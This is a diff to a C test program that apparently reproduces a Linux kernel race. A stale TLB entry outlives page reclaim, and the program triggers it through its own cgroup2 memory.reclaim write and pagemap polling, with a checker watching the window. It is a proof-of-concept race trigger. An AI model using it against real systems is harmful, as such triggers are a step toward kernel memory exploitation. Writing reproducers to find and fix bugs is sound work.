@@ -15,6 +15,7 @@
  * Exit status: 0 the attack was made, 1 it could not be made, 2 wrong use.
  */
 #define _GNU_SOURCE
+#include <errno.h>
 #include <fcntl.h>
 #include <pthread.h>
 #include <sched.h>
@@ -26,6 +27,8 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
 #include <exec/tlb-check-guest.h>
@@ -35,6 +38,13 @@
 #define OWN		0x5a5a5a5a5a5a5a5aull
 #define IN_WINDOW_US	200000
 #define AFTER_US	500000
+/* Many times what reclaim takes. */
+#define WAIT_US		60000000ull
+
+#define GROUP_ROOT	"/run/upstream-bug"
+#define GROUP		GROUP_ROOT "/group"
+/* A bit of /proc/PID/pagemap */
+#define PRESENT		(1ull << 63)
 
 #define MUST(what) do {							\
 	if ((long)(what) < 0) {						\
@@ -65,6 +75,17 @@ static void on_fault(int number)
 {
 	(void)number;
 	siglongjmp(out, 1);
+}
+
+static int put(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC), result = -1;
+
+	if (fd >= 0) {
+		result = write(fd, text, strlen(text)) < 0 ? -1 : 0;
+		close(fd);
+	}
+	return result;
 }
 
 static void *victim(void *unused)
@@ -101,13 +122,47 @@ static void *move(void *unused)
 	return NULL;
 }
 
+/*
+ * Reclaim from outside of the process, as kswapd does it: madvise() would count
+ * as a flush under way, and who unmaps beside it flushes for safety.
+ */
 static void *reclaim(void *unused)
 {
 	(void)unused;
 	pin(SECOND_CPU);
 	atomic_store(&opening, true);
-	MUST(madvise(page, BYTES, MADV_PAGEOUT));
+	/* More than there is: fails in the end, which is all right. */
+	put(GROUP "/memory.reclaim", "1M");
 	return NULL;
+}
+
+/* A control group of our own: what it reclaims is what we have touched since. */
+static void enter_group(void)
+{
+	MUST(mkdir(GROUP_ROOT, 0700));
+	MUST(mount("none", GROUP_ROOT, "cgroup2", 0, NULL));
+	MUST(put(GROUP_ROOT "/cgroup.subtree_control", "+memory"));
+	MUST(mkdir(GROUP, 0700));
+	MUST(put(GROUP "/cgroup.procs", "0"));
+}
+
+/* Until reclaim has cleared the entry. Its flush waits in the window. */
+static void wait_until_unmapped(void)
+{
+	int pagemap = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC), tries;
+	unsigned long long entry = PRESENT;
+
+	MUST(pagemap);
+	for (tries = 0; entry & PRESENT; tries++) {
+		if (tries == WAIT_US / 1000) {
+			fputs("upstream-bug: the page was not reclaimed\n", stderr);
+			exit(1);
+		}
+		usleep(1000);
+		MUST(pread(pagemap, &entry, sizeof(entry),
+			   (long)page / PAGE * sizeof(entry)));
+	}
+	close(pagemap);
 }
 
 /* The freed frames are the checker's to see; they get a new owner here. */
@@ -127,6 +182,7 @@ static void truncate_it(void)
 
 static void unmap_it(void)
 {
+	wait_until_unmapped();
 	MUST(madvise(page, BYTES, MADV_DONTNEED));
 	/* From here on nobody may reach the old page. */
 	tlb_check_arm(page, BYTES);
@@ -164,6 +220,8 @@ int main(int argc, char **argv)
 	}
 	/* New pages wait in lists of a CPU, where only that one can reclaim them. */
 	pin(SECOND_CPU);
+	if (!moves)
+		enter_group();
 	make_file(argv[2]);
 	page = mmap(NULL, BYTES, PROT_READ, MAP_SHARED, file, 0);
 	if (page == MAP_FAILED) {
@@ -182,11 +240,12 @@ int main(int argc, char **argv)
 		return 1;
 	while (!atomic_load(&opening))
 		sched_yield();
-	usleep(IN_WINDOW_US);
-	if (moves)
+	if (moves) {
+		usleep(IN_WINDOW_US);
 		truncate_it();
-	else
+	} else {
 		unmap_it();
+	}
 	pthread_join(threads[1], NULL);
 	usleep(AFTER_US);
 	atomic_store(&over, true);
